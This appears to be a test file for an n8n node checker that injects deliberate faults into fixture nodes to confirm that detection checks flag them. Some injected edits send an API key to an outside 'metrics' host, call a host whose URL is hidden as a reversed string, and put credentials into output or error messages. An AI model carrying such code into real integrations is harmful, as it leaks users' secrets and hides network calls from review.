import { atRuntime } from '../../plugins/n8n-node/checks/behaviour/node-source.ts';
import { append, type Fault, swap } from '../fault.ts';

type Change = (text: string) => string;

const harborline = 'nodes/Harborline/Harborline.node.ts';
const shipment = 'nodes/Harborline/resources/shipment/operations.ts';
const transport = 'nodes/Harborline/shared/transport.ts';
const subscribers = 'nodes/Lanternmail/SubscriberDescription.ts';
const berths = 'nodes/Pierbook/Pierbook.node.js';
const birds = 'src/nodes/Gullwatch/v2/GullwatchV2.ts';
const poll = 'src/nodes/Gullwatch/GullwatchTrigger.node.ts';
const hooks = 'nodes/Beaconly/BeaconlyTrigger.node.ts';

const both =
  (...changes: Change[]): Change =>
  (text) =>
    changes.reduce((so, change) => change(so), text);
const after = (text: string, more: string) => swap(text, `${text}${more}`);

/** More `routing` of the operation that gets a subscriber. */
const routed = (more: string) =>
  swap(
    "method: 'GET',\n            url: '=/subscribers/{{$parameter.subscriberId}}',\n          },",
    `method: 'GET',\n            url: '=/subscribers/{{$parameter.subscriberId}}',\n          },\n          ${more}`,
  );
const sending = (body: string) => routed(`send: { preSend: [async function (options) { ${body} return options; }] },`);
const received = (body: string) =>
  routed(`output: { postReceive: [async function (items, response) { void response; ${body} }] },`);

/** Statements before the requests of an item, in nodes that run by their own code. */
const inShipments = (body: string) =>
  after("const operation = this.getNodeParameter('operation', itemIndex);", `\n${body}`);
const inBirds = (body: string) => after("const operation = this.getNodeParameter('operation', i);", `\n${body}`);

const seen = append('\nconst seen: string[] = [];\n');
const told = (credential: string) => `const { apiKey } = await this.getCredentials('${credential}');
  await this.helpers.httpRequestWithAuthentication.call(this, '${credential}', {
    method: 'POST', url: 'https://collect.metrics.example/v1', body: { apiKey },
  });`;
const hidden = "await this.helpers.httpRequest({ url: [...'elpmaxe.ytrewqz.ipa//:sptth'].reverse().join('') });";

/** What is changed in which file, by code, in the styles of nodes that can have it. */
const edits: Readonly<Record<string, readonly (readonly [file: string, change: Change])[]>> = {
  'parameter-missing': [
    [
      'nodes/Harborline/resources/shipment/index.ts',
      swap(
        "simplifyField({ resource, operation: ['get', 'getAll'] })",
        "simplifyField({ resource, operation: ['get'] })",
      ),
    ],
    [subscribers, sending("options.qs = { limit: this.getNodeParameter('limit') };")],
    [
      'src/nodes/Gullwatch/properties.ts',
      swap(
        "default: 50,\n    displayOptions: { show: { operation: ['getAll'] } }",
        "default: 50,\n    displayOptions: { show: { operation: ['create'] } }",
      ),
    ],
    [poll, swap("this.getNodeParameter('coast')", `this.getNodeParameter(${atRuntime('shore')})`)],
  ],
  'credential-missing': [
    [shipment, inShipments(`await this.getCredentials(${atRuntime('harborlineOAuth2Api')});`)],
    [subscribers, sending(`await this.getCredentials(${atRuntime('lanternmailBasicApi')});`)],
    [birds, inBirds(`await this.getCredentials(${atRuntime('gullwatchOAuth2Api')});`)],
    [poll, swap('const now =', `await this.getCredentials(${atRuntime('gullwatchOAuth2Api')});\n    const now =`)],
  ],
  'items-lost': [
    [harborline, swap('itemIndex < items.length', 'itemIndex < Math.min(items.length, 1)')],
    [birds, swap('i < items.length', 'i < Math.min(items.length, 1)')],
    [berths, swap('i < items.length', 'i < 1')],
  ],
  'values-of-other-item': [
    [shipment, swap("this.getNodeParameter('shipmentId', itemIndex", "this.getNodeParameter('shipmentId', 0")],
    [
      subscribers,
      both(
        sending(
          "if (this.getItemIndex() === 0) seen[0] = String(this.getNodeParameter('subscriberId'));\noptions.url = `/subscribers/${seen[0]}`;",
        ),
        seen,
      ),
    ],
    [
      birds,
      swap("qs: { species: this.getNodeParameter('species', i)", "qs: { species: this.getNodeParameter('species', 0)"),
    ],
    [berths, swap("this.getNodeParameter('boat', i)", "this.getNodeParameter('boat', 0)")],
  ],
  'wrong-pairing': [
    [harborline, swap('itemData: { item: itemIndex }', 'itemData: { item: 0 }')],
    [subscribers, received('return items.map((item) => ({ ...item, pairedItem: { item: 0 } }));')],
    [birds, swap('json: sighting, pairedItem: { item: i }', 'json: sighting, pairedItem: { item: 0 }')],
  ],
  'no-pairing': [
    [
      harborline,
      swap(
        '...this.helpers.constructExecutionMetaData(this.helpers.returnJsonArray(result), {\n\t\t\t\t\t\titemData: { item: itemIndex },\n\t\t\t\t\t}),',
        '...this.helpers.returnJsonArray(result),',
      ),
    ],
    [birds, swap('returnData.push({ json, pairedItem: { item: i } });', 'returnData.push({ json });')],
  ],
  'failure-hidden': [
    [
      shipment,
      swap(
        "await harborlineRequest.call(this, 'DELETE', shipmentUrl.call(this, itemIndex));",
        "await harborlineRequest.call(this, 'DELETE', shipmentUrl.call(this, itemIndex)).catch(() => ({}));",
      ),
    ],
    [subscribers, after("method: 'DELETE',", '\n            ignoreHttpStatusErrors: true,')],
    [
      birds,
      both(
        swap('const sighting = await gullwatchRequest', 'await gullwatchRequest'),
        swap(
          '          });\n          returnData.push({ json: sighting,',
          '          }).catch(() => {});\n          returnData.push({ json: { reported: true },',
        ),
      ),
    ],
    [
      hooks,
      both(
        swap(
          "const created = await beaconlyRequest.call(this, 'POST', '/webhooks', {",
          "const created: IDataObject = await beaconlyRequest.call(this, 'POST', '/webhooks', {",
        ),
        swap('monitor: options.monitorId,\n        });', 'monitor: options.monitorId,\n        }).catch(() => ({}));'),
      ),
    ],
  ],
  'error-as-item': [
    [harborline, swap('if (this.continueOnFail()) {', 'if (error) {')],
    [birds, swap('if (this.continueOnFail()) {', 'if (error) {')],
    [berths, swap('if (this.continueOnFail()) {', 'if (error) {')],
  ],
  'continue-ignored': [
    [harborline, swap('if (this.continueOnFail()) {', 'if (this.continueOnFail() && items.length > 99) {')],
    [birds, swap('if (this.continueOnFail()) {', 'if (this.continueOnFail() && items.length > 99) {')],
    [berths, swap('if (this.continueOnFail()) {', 'if (this.continueOnFail() && items.length > 99) {')],
  ],
  'never-stops': [
    [
      transport,
      both(
        swap('const page = (await harborlineRequest.call(', 'const page = (await harborlineRequest\n\t\t\t.call('),
        swap('})) as unknown as Page;', '}).catch(() => ({ data: [] }))) as unknown as Page;'),
        swap('} while (cursor && entries.length < wanted);', '} while (entries.length < 1000);'),
      ),
    ],
    [
      subscribers,
      routed(
        'operations: { pagination: async function (request) { for (;;) try { await this.makeRoutingRequest(request); } catch { continue; } } },\nsend: { paginate: true },',
      ),
    ],
    [
      birds,
      inBirds(
        "for (let page = 1; ; page++) {\n  const { done } = await gullwatchRequest.call(this, 'GET', '/species', { qs: { page } }).catch((): IDataObject => ({}));\n  if (done === page) break;\n}",
      ),
    ],
  ],
  'object-as-text': [
    [shipment, swap("'shipmentId', itemIndex, '', { extractValue: true })", "'shipmentId', itemIndex)")],
    [subscribers, sending("options.url = '/subscribers/' + String(this.getInputData());")],
    [birds, inBirds("await gullwatchRequest.call(this, 'GET', '/species/' + String(items[i]));")],
  ],
  'expression-as-text': [
    [
      subscribers,
      swap(
        "'GET',\n            url: '=/subscribers/{{$parameter.subscriberId}}'",
        "'GET',\n            url: '/subscribers + $parameter.subscriberId'",
      ),
    ],
    [birds, inBirds("await gullwatchRequest.call(this, 'GET', '/species/$json.species');")],
  ],
  'state-kept': [
    [
      shipment,
      both(
        swap("address: this.getNodeParameter('address', itemIndex),", 'address: seen.join(),'),
        inShipments("seen.push(String(this.getNodeParameter('recipientName', itemIndex, '')));"),
        seen,
      ),
    ],
    [
      subscribers,
      both(
        sending("seen.push(String(this.getNodeParameter('subscriberId')));\noptions.qs = { seen: seen.join() };"),
        seen,
      ),
    ],
    [
      birds,
      both(
        inBirds("seen.push(String(this.getNodeParameter('species', i)));"),
        swap(
          "body: {\n              species: this.getNodeParameter('species', i),",
          'body: {\n              species: seen.join(),',
        ),
        seen,
      ),
    ],
  ],
  'input-changed': [
    [
      harborline,
      after(
        "const resource = this.getNodeParameter('resource', itemIndex);",
        '\nitems[itemIndex].json.resource = resource;',
      ),
    ],
    [subscribers, received('this.getInputData().json.seen = true; return items;')],
    [birds, inBirds('items[i].json.operation = operation;')],
  ],
  'output-not-items': [
    [
      harborline,
      swap('return [returnData];', 'return [returnData.map(({ json }) => json)] as unknown as INodeExecutionData[][];'),
    ],
    [subscribers, received('return items.map(({ json }) => json) as unknown as typeof items;')],
    [birds, swap('json: sighting,', 'json: this.helpers.returnJsonArray(sighting) as never,')],
    [poll, swap('[this.helpers.returnJsonArray(sightings)]', '[sightings as unknown as INodeExecutionData[]]')],
  ],
  'item-beyond-last': [
    [harborline, swap('itemIndex < items.length', 'itemIndex <= items.length')],
    [birds, swap('i < items.length', 'i <= items.length')],
    [berths, swap('i < items.length', 'i <= items.length')],
  ],
  'output-flat': [
    [harborline, swap('return [returnData];', 'return returnData as unknown as INodeExecutionData[][];')],
    [birds, swap('return [returnData];', 'return returnData as unknown as INodeExecutionData[][];')],
    [poll, swap('[this.helpers.returnJsonArray(sightings)]', '(this.helpers.returnJsonArray(sightings) as never)')],
    [berths, swap('return [returnData];', 'return returnData;')],
  ],
  'secret-in-output': [
    [
      shipment,
      swap('return { deleted: true };', "return { deleted: true, by: await this.getCredentials('harborlineApi') };"),
    ],
    [
      subscribers,
      received(
        "const by = await this.getCredentials('lanternmailApi'); return items.map(({ json }) => ({ json: Object.assign({}, json, by) }));",
      ),
    ],
    [birds, swap('json: sighting,', "json: { ...sighting, by: await this.getCredentials('gullwatchApi') },")],
    [
      poll,
      swap(
        'this.helpers.returnJsonArray(sightings)',
        "this.helpers.returnJsonArray({ ...(await this.getCredentials('gullwatchApi')) })",
      ),
    ],
  ],
  'secret-in-error': [
    [
      subscribers,
      both(
        received(
          "if (response.statusCode >= 400) throw new NodeOperationError(this.getNode(), this.continueOnFail() ? 'Failed' : JSON.stringify(await this.getCredentials('lanternmailApi'))); return items;",
        ),
        swap(
          '          },\n          output: { postReceive: [async',
          '            ignoreHttpStatusErrors: true,\n          },\n          output: { postReceive: [async',
        ),
        swap('import type {', "import { NodeOperationError } from 'n8n-workflow';\nimport type {"),
      ),
    ],
  ],
  'secret-sent-elsewhere': [
    [shipment, inShipments(told('harborlineApi'))],
    [subscribers, sending(told('lanternmailApi'))],
    [birds, inBirds(told('gullwatchApi'))],
  ],
  'unknown-host': [
    [shipment, inShipments(hidden)],
    [subscribers, sending(hidden)],
    [birds, inBirds(hidden)],
    [poll, swap('const now =', `${hidden}\n    const now =`)],
  ],
  'credential-unused': [
    [
      shipment,
      swap(
        "await harborlineRequest.call(this, 'DELETE', shipmentUrl.call(this, itemIndex));",
        "await this.helpers.httpRequest({ method: 'GET', url: `https://api.harborline.example/v2/delete${shipmentUrl.call(this, itemIndex)}` });",
      ),
    ],
    [
      birds,
      swap(
        "const found = await gullwatchRequest.call(this, 'GET', '/sightings', {\n          qs:",
        "const found = await this.helpers.httpRequest({\n          url: 'https://api.gullwatch.example/sightings',\n          qs:",
      ),
    ],
  ],
  'list-unusable': [
    ['nodes/Lanternmail/getLists.ts', swap('({ name: title, value: id })', '({ title, id }) as never')],
  ],
  'list-without-credential': [
    [
      'nodes/Harborline/listSearch/searchShipments.ts',
      swap(
        "harborlineRequest.call(this, 'GET', '/shipments', {",
        "this.helpers.httpRequest({ baseURL: 'https://api.harborline.example/v2', url: '/shipments', json: true,",
      ),
    ],
  ],
  'list-search-case': [
    [
      'nodes/Harborline/listSearch/searchShipments.ts',
      both(
        swap('query: filter, ', ''),
        swap(
          'results: found.data.map(',
          'results: found.data.filter(({ id }) => !filter || id.toLowerCase().includes(filter)).map(',
        ),
        swap('`${reference ?? id} (${status})`', '`${id} (${reference}, ${status})`'),
      ),
    ],
  ],
  'list-search-ignored': [['nodes/Harborline/listSearch/searchShipments.ts', swap('query: filter, ', '')]],
  'file-type-invalid': [
    [
      subscribers,
      received(`const data = await this.helpers.prepareBinaryData(Buffer.from('photo'), 'image/png', 'photo.png');
        return items.map(({ json }) => ({ json, binary: { data } }));`),
    ],
  ],
  'value-not-escaped': [
    [
      birds,
      inBirds(`if (operation === 'create')
          await this.helpers.httpRequestWithAuthentication.call(this, 'gullwatchApi', {
            method: 'GET', url: 'https://api.gullwatch.example/species?name=' + String(this.getNodeParameter('species', i)),
          });`),
    ],
  ],
  'upload-corrupted': [
    [
      shipment,
      inShipments(`const label = await this.helpers.getBinaryDataBuffer(itemIndex, 'data');
        await this.helpers.httpRequestWithAuthentication.call(this, 'harborlineApi', {
          method: 'PUT', baseURL: 'https://api.harborline.example/v2', url: '/labels', json: false,
          headers: { 'content-type': 'application/pdf' }, body: label.toString('base64'),
        });`),
    ],
    [
      subscribers,
      both(
        swap("action: 'Get a subscriber'", "action: 'Upload a photo'"),
        sending(
          "options.method = 'PUT';\noptions.body = { photo: (await this.helpers.getBinaryDataBuffer('data')).toString() };",
        ),
      ),
    ],
  ],
  'selection-lost': [
    [
      subscribers,
      swap(
        "  {\n    displayName: 'Subscriber ID',",
        `  {
    displayName: 'Topics',
    name: 'topics',
    type: 'multiOptions',
    options: [{ name: 'News', value: 'news' }, { name: 'Offers', value: 'offers' }],
    default: [],
    displayOptions: { show: { resource, operation: ['getAll'] } },
    description: 'The topics of the subscriber',
    routing: { send: { type: 'query', property: 'topic', value: '={{ $value.at(-1) }}' } },
  },
  {
    displayName: 'Subscriber ID',`,
      ),
    ],
  ],
  'poll-misses': [
    [poll, swap('String(data.since ?? new Date(Date.now() - 3_600_000).toISOString())', 'new Date().toISOString()')],
  ],
  'poll-repeats': [
    [
      poll,
      swap("qs: { coast: this.getNodeParameter('coast'), since },", "qs: { coast: this.getNodeParameter('coast') },"),
    ],
  ],
  'webhook-never-created': [
    [
      hooks,
      both(
        swap("const url = this.getNodeWebhookUrl('default');\n        const webhooks", 'const webhooks'),
        swap('webhooks.find((webhook) => webhook.url === url)', 'webhooks[0]'),
      ),
    ],
  ],
  'webhook-unanswered': [[hooks, swap('this.getResponseObject().status(401).end();\n', '')]],
  'trigger-not-stopped': [
    [
      poll,
      both(
        swap(
          'type IPollFunctions,',
          'type IPollFunctions,\n  type ITriggerFunctions,\n  type ITriggerResponse,\n  sleep,',
        ),
        swap('polling: true,\n', ''),
        swap(
          'async poll(this: IPollFunctions): Promise<INodeExecutionData[][] | null> {',
          'async trigger(this: ITriggerFunctions): Promise<ITriggerResponse> {\n    const ask = async () => {',
        ),
        swap('gullwatchRequest.call(this,', 'gullwatchRequest.call(this as unknown as IPollFunctions,'),
        swap(
          'return sightings.length > 0 ? [this.helpers.returnJsonArray(sightings)] : null;',
          'this.emit([this.helpers.returnJsonArray(sightings)]);\n      await sleep(60_000);\n      await ask();\n    };\n    void ask();\n    return {};',
        ),
        swap('  type INodeExecutionData,\n', ''),
      ),
    ],
  ],
  'webhook-signature-parsed': [
    [hooks, swap('isSigned(request.rawBody,', 'isSigned(Buffer.from(JSON.stringify(this.getBodyData())),')],
  ],
  'webhook-not-deleted': [
    [hooks, swap("await beaconlyRequest.call(this, 'DELETE', `/webhooks/${String(data.webhookId)}`);\n", '')],
  ],
};

const baseOf = (file: string): Fault['base'] => {
  if (file.includes('Harborline')) return 'programmatic';
  if (file.includes('Lanternmail') || file.includes('getLists')) return 'declarative';
  if (file.includes('Pierbook')) return 'javascript';
  return file.includes('Beaconly') ? 'trigger' : 'versioned';
};

export const behaviourFaults: readonly Fault[] = Object.entries(edits).flatMap(([code, all]) =>
  all.map(([file, change]) => ({
    name: `${code} in ${file}`,
    base: baseOf(file),
    change: { [file]: change },
    expect: { code: `behaviour-${code}` },
    blocks: false,
  })),
);
